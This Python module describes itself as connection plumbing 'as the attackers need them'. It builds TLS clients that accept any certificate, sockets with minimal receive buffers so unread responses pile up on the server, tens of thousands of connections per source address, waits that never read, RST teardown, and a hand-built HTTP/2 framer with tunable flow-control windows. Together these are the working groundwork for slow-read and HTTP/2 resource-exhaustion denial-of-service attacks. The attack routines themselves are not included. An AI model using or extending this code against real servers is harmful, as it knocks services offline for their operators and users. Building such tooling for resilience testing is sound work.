"""Connections as the attackers need them: nothing is read before it is asked for, and HTTP/2 is written frame by frame."""
import asyncio
import socket
import ssl
import struct

# Linux: the port is chosen at connect, so that one address can have tens of thousands of connections.
IP_BIND_ADDRESS_NO_PORT = 24
# The least that the kernel allows is about this: what is not read stays in the server.
RECEIVE_BUFFER = 2048
ESTABLISHED = 1


def tls_context(*protocols):
    """A client that accepts any certificate, as an attacker does."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    return context


class Wire:
    """A TCP connection, with TLS or without. asyncio's streams read ahead; this does not."""

    def __init__(self, server, source, context=None):
        self.server, self.source = server, source
        self.loop = asyncio.get_running_loop()
        self.buffer = b""
        self.tls = None
        if context:
            self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = context.wrap_bio(self.incoming, self.outgoing)

    async def open(self):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        self.socket.bind((self.source, 0))
        await self.loop.sock_connect(self.socket, self.server)
        if self.tls:
            await self.encrypted(self.tls.do_handshake)

    async def encrypted(self, call, *arguments):
        """Repeats a call of TLS until it has the bytes that it waits for."""
        while True:
            try:
                return call(*arguments)
            except ssl.SSLWantReadError:
                await self.flush()
                self.incoming.write(await self.received(16384))
            finally:
                await self.flush()

    async def flush(self):
        if self.outgoing.pending:
            await self.loop.sock_sendall(self.socket, self.outgoing.read())

    async def received(self, most):
        data = await self.loop.sock_recv(self.socket, most)
        if not data:
            raise EOFError("the server closed the connection")
        return data

    async def send(self, data):
        if self.tls:
            await self.encrypted(self.tls.write, data)
        else:
            await self.loop.sock_sendall(self.socket, data)

    async def some(self):
        """Some bytes, at least one."""
        if self.buffer:
            data, self.buffer = self.buffer, b""
            return data
        if self.tls:
            data = await self.encrypted(self.tls.read, 65536)
            if not data:
                raise EOFError("the server ended TLS")
            return data
        return await self.received(65536)

    async def exactly(self, count):
        while len(self.buffer) < count:
            data, self.buffer = self.buffer, b""
            self.buffer = data + await self.some()
        data, self.buffer = self.buffer[:count], self.buffer[count:]
        return data

    async def until(self, end):
        data = bytearray()
        while end not in data:
            data += await self.some()
        at = data.index(end) + len(end)
        self.buffer = bytes(data[at:])
        return bytes(data[:at])

    async def answer(self):
        """Reads an answer of HTTP/1 to its end; its status."""
        head = (await self.until(b"\r\n\r\n")).lower()
        length = next((line for line in head.split(b"\r\n") if line.startswith(b"content-length:")), None)
        if length:
            await self.exactly(int(length.split(b":")[1]))
        elif b"transfer-encoding: chunked" in head:
            while size := int(await self.until(b"\r\n"), 16):
                await self.exactly(size + 2)
            await self.exactly(2)
        return int(head[9:12])

    async def while_open(self):
        """Waits without reading until the server has closed its side."""
        while self.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED:
            await asyncio.sleep(0.5)

    def reset(self):
        """Ends the connection with RST, which leaves no TIME_WAIT."""
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()


# HTTP/2, RFC 9113: as much as the attacks need.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
INDEXED_STATUS_200 = 0x88  # as HPACK's static table has it
LARGEST_WINDOW = (1 << 31) - 1


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(name, value):
    return struct.pack(">HI", name, value)


def window_update(stream, by):
    return frame(WINDOW_UPDATE, 0, stream, by.to_bytes(4, "big"))


def literal(name, value):
    """A header field without indexing and without Huffman's code (RFC 7541, 6.2.2)."""
    out = b"\0"
    for text in (name.encode(), value.encode()):
        length = len(text)
        if length < 127:
            out += bytes([length])
        else:
            out += b"\x7f"
            length -= 127
            while length >= 128:
                out += bytes([length % 128 | 128])
                length //= 128
            out += bytes([length])
        out += text
    return out


def request(stream, path, method="GET", end=True, more=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "x"), *more]
    block = b"".join(literal(name, value) for name, value in fields)
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


class Http2(Wire):
    """A connection of HTTP/2. `window` is how much each stream may send to begin with."""

    def __init__(self, server, source, context, window):
        super().__init__(server, source, context)
        self.window = window

    async def open(self):
        await super().open()
        if self.tls.selected_alpn_protocol() != "h2":
            raise EOFError("the server speaks no HTTP/2")
        hello = PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, self.window))
        if self.window == LARGEST_WINDOW:
            hello += window_update(0, LARGEST_WINDOW - 65535)
        await self.send(hello)
        await self.frame()
        await self.send(frame(SETTINGS, ACK, 0))

    async def frame(self):
        """The next frame: kind, flags, stream, payload."""
        head = await self.exactly(9)
        return head[3], head[4], int.from_bytes(head[5:], "big"), await self.exactly(int.from_bytes(head[:3], "big"))

    async def answer_of(self, stream):
        """Reads until an answer's end."""
        while True:
            kind, flags, of, _ = await self.frame()
            if kind == GOAWAY or (kind == RST_STREAM and of == stream):
                raise EOFError("the server gave up")
            if of == stream and kind in (DATA, HEADERS) and flags & END_STREAM:
                return
